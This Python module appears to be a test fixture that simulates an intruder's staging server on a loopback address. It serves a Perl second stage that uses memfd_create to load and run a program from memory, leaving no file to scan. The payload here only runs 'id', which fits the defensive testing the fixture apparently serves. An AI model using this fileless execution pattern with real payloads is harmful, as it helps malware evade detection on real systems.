"""The intruder's own machine: a web server on another loopback address, and what it serves."""

import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import MappingProxyType

ADDRESS = "127.0.0.66"

# Copies a harmless program into memory and runs it from there: there is no file to scan.
_STAGE = rb"""
my $memory = syscall(319, my $name = "stage", 0);  # memfd_create
open(my $program, "<", "/usr/bin/id"); binmode $program;
open(my $out, ">&=", $memory); binmode $out;
local $/; print $out scalar <$program>; $out->flush if $out->can("flush");
exec {"/proc/self/fd/$memory"} "id";
"""


class _Handler(BaseHTTPRequestHandler):
    files: Mapping[str, bytes]

    def do_GET(self) -> None:
        content = self.files.get(self.path, b"")
        self.send_response(200 if content else 404)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *_: object) -> None:
        """Be quiet."""


@contextmanager
def attacker(more: Mapping[str, bytes] = MappingProxyType({})) -> Iterator[str]:
    """A server for the intruder; yields the URL from which the next stage can be fetched.

    Args:
        more: path -> content of what else it serves.
    """
    handler = type("Handler", (_Handler,), {"files": {"/stage": _STAGE, **more}})
    with ThreadingHTTPServer((ADDRESS, 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield f"http://{ADDRESS}:{server.server_port}/stage"
        finally:
            server.shutdown()
            thread.join()
